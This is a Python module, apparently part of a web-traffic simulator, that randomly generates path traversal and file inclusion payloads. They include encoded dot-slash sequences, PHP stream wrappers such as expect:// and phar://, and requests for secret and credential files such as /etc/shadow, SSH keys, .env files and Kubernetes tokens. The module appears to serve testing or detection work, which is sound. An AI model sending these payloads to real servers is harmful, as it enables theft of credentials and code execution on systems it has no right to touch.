"""Path traversal and file inclusion by tools and by hand.

Sources: DotDotPwn and ffuf's LFI lists, published exploits (CVE-2021-41773, CVE-2018-13379, CVE-2019-19781), honeypot
reports of php:// wrappers, OWASP's page on path traversal (encodings).
"""

# fmt: off
# Declarations read better a line each than an element each.
from __future__ import annotations

from random import Random
from urllib.parse import quote

from simulator.payloads import wire
from simulator.payloads.aim import Aim, Shot
from simulator.web.words import identifier

_UNIX = ("etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "etc/issue", "home/ubuntu/.ssh/id_rsa", "root/.bash_history", "var/www/html/.env",
    "etc/nginx/nginx.conf", "var/www/html/config.php", "usr/local/tomcat/conf/tomcat-users.xml", "etc/mysql/my.cnf", "app/.env")
_WINDOWS = ("windows/win.ini", "winnt/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "inetpub/wwwroot/web.config",
    "windows/system32/inetsrv/config/applicationhost.config", "users/administrator/.ssh/id_rsa")


def parameters(rng: Random, aim: Aim) -> Shot:
    """Dots and slashes in a parameter that names a file."""
    deep = rng.randrange(2, 13)
    text = rng.choice(("../" * deep, "/" + "../" * deep, "./" + "../" * deep, "....//" * deep, "..//" * deep,
        f"{rng.choice(('images', 'en', 'files', 'docs/2026'))}/" + "../" * deep)) + rng.choice(_UNIX)
    text += rng.choice(("", "", "", "%00", "%00.jpg", ".html", "?", "/."))
    return aim.query(rng, rng.choice((wire.raw, wire.raw, wire.library))(rng, text), "file")


def aliases(rng: Random, aim: Aim) -> Shot:
    """Below a directory that the server maps, with dots encoded where its normalisation misses them."""
    dots = rng.choice((".%2e/", "%2e%2e/", "..%2f", "%2e%2e%2f", ".%%32%65/", "%%32%65%%32%65/", "..;/"))
    prefix = rng.choice(("/cgi-bin/", "/icons/", "/static", "/assets/", "/images/", "/public/plugins/alertlist/", "/manager/", "/vpn/", "/download/",
        "/uploads", "/media/"))
    return Shot(prefix + dots * rng.randrange(2, 10) + rng.choice((*_UNIX, "bin/sh")), method="POST" if rng.random() < 0.12 else "GET")


def wrappers(rng: Random, aim: Aim) -> Shot:
    """PHP's stream wrappers instead of dots."""
    script = rng.choice(("index", "config", "wp-config.php", "../config/database.php", "admin/login.php", "index.php", "includes/db.inc"))
    text = rng.choice((
        f"php://filter/convert.base64-encode/resource={script}", f"php://filter/read=string.rot13/resource={script}",
        "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd", "php://input", "expect://id",
        f"data://text/plain;base64,{quote('PD9waHAgcGhwaW5mbygpOz8+')}", f"zip://uploads/{identifier(rng, 8)}.jpg%23shell.php",
        f"phar://./uploads/{identifier(rng, 6)}.gif", f"pHp://FilTer/convert.base64-encode/resource={script}", "file:///etc/passwd",
        f"php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource={script}",
    ))
    return aim.query(rng, wire.raw(rng, text), "file")


def process_files(rng: Random, aim: Aim) -> Shot:
    """What a process reveals of itself, and logs that are poisoned first."""
    target = rng.choice((f"/proc/self/{rng.choice(('environ', 'cmdline', 'maps', 'status', 'cwd/.env', 'fd/' + str(rng.randrange(3, 20))))}",
        f"/proc/{rng.randrange(1, 900)}/cmdline", "/var/log/apache2/access.log", "/var/log/nginx/access.log", "/var/log/auth.log",
        "/var/lib/php/sessions/sess_" + identifier(rng, 26), "/run/secrets/kubernetes.io/serviceaccount/token", "/var/run/docker.sock"))
    text = rng.choice(("", "../" * rng.randrange(3, 9), "..%2f" * rng.randrange(3, 8), "file://")) + target
    return aim.query(rng, wire.raw(rng, text), "file") if rng.random() < 0.7 else Shot("/" + "..%2f" * rng.randrange(3, 7) + target[1:].replace("/",
        "%2f"))


def backslashes(rng: Random, aim: Aim) -> Shot:
    """Windows: backslashes, drive letters, alternate streams, UNC."""
    dots = rng.choice(("..\\", "..%5c", "..%5C", "..%255c", "..\\/"))
    target = rng.choice(_WINDOWS)
    text = rng.choice((dots * rng.randrange(2, 12) + target.replace("/", rng.choice(("\\", "%5c"))), f"C:\\{target}".replace("/", "\\"),
        f"c:/{target}", f"\\\\{rng.randrange(5, 220)}.{rng.randrange(250)}.{rng.randrange(250)}.{rng.randrange(1, 250)}\\share\\{identifier(rng, 4)}",
        "web.config::$DATA", f"file:///c:/{target}"))
    draw = rng.random()
    if draw < 0.7:
        return aim.query(rng, wire.raw(rng, text), "file")
    return Shot(rng.choice(("/scripts/", "/download/", "/help/", "/")) + dots * rng.randrange(3, 9) + target)


def overlong(rng: Random, aim: Aim) -> Shot:
    """Slashes and dots encoded twice, overlong, or as %u, in path and parameter."""
    dot, slash = rng.choice((("%252e", "%252f"), ("%c0%ae", "%c0%af"), ("%2e", "%c1%9c"), ("%uff0e", "%u2215"), ("%25c0%25ae", "%25c0%25af"),
        ("%e0%80%ae", "%e0%80%af"), (".", "%25252f"), ("%u002e", "%u002f")))
    text = (dot * 2 + slash) * rng.randrange(2, 10) + rng.choice((*_UNIX, *_WINDOWS)).replace("/", slash)
    return aim.query(rng, text, "file") if rng.random() < 0.5 else Shot(rng.choice(("/static/", "/", "/scripts/", "/images/", "/api/")) + text)
